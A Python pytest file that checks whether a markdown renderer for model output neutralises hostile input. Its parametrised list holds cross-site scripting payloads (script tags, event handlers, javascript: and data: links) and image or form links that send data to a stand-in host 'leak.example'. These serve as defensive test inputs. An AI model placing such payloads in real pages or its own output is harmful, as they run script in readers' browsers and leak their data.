import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from sagents_app.presenters import markdown


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:x)",
        "![x](https://leak.example/?secret)",
        "![x][1]\n\n[1]: https://leak.example/",
        '[x](https://a.example "\\" onmouseover=alert(1) \\"")',
        "<iframe src=https://leak.example></iframe>",
        "<style>body{display:none}</style>",
        "`<b>`<form action=https://leak.example>",
        '```"><script>alert(1)</script>\ncode\n```',
        '<https://a.example/"onmouseover=alert(1)>',
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<div style='position:fixed'>x</div>",
        "<!-- <script>alert(1)</script> -->",
    ],
)
def test_hostile_markdown_is_inert(text):
    for tag, attributes in tags_of(markdown.render(text)):
        assert tag in markdown.TAGS
        assert attributes.keys() <= {"href", "title", "rel", "target", "data-language", "start"}
        assert urlsplit(attributes.get("href", "")).scheme in {"", "http", "https", "mailto"}


class Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def tags_of(html):
    """The tags of a text as a browser reads them, with their attributes."""
    parser = Tags()
    parser.feed(html)
    return parser.found


def test_a_link_leads_out_without_telling_where_from():
    html = markdown.render("[x](https://a.example/)")
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'target="_blank"' in html


def test_what_models_write_is_rendered():
    html = markdown.render(
        "# Big\n\n**bold** ~~gone~~\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n  two"
    )
    assert "<h3>Big</h3>" in html
    assert "<strong>bold</strong>" in html
    assert "<s>gone</s>" in html
    assert "<td>1</td>" in html
    assert "<br>" in html


def test_code_is_shown_as_it_is_with_its_language():
    html = markdown.render("```python\nif a < b: print('<b>')\n```")
    assert 'data-language="python"' in html
    assert "if a &lt; b: print('&lt;b&gt;')" in html


def test_a_text_beyond_the_limit_is_shown_unrendered():
    html = markdown.render("*" * (markdown.LONGEST + 1) + "<b>")
    assert html.startswith('<p class="plain">')
    assert "&lt;b&gt;" in html


@pytest.mark.parametrize("mark", ["> ", ">", "- ", "1. "])
@pytest.mark.parametrize("times", [10, 50, 59, 60, 300, 5_000])
def test_nothing_is_left_out_however_deeply_it_is_nested(mark, times):
    assert "deep" in markdown.render(mark * times + "deep")


@pytest.mark.parametrize("piece", ["[", "![", "> ", "- ", "*", "`", "<", "**a ", "[a](", "\\"])
def test_repeated_marks_cost_little(piece):
    began = time.process_time()
    markdown.render(piece * (20_000 // len(piece)))
    assert time.process_time() - began < 5
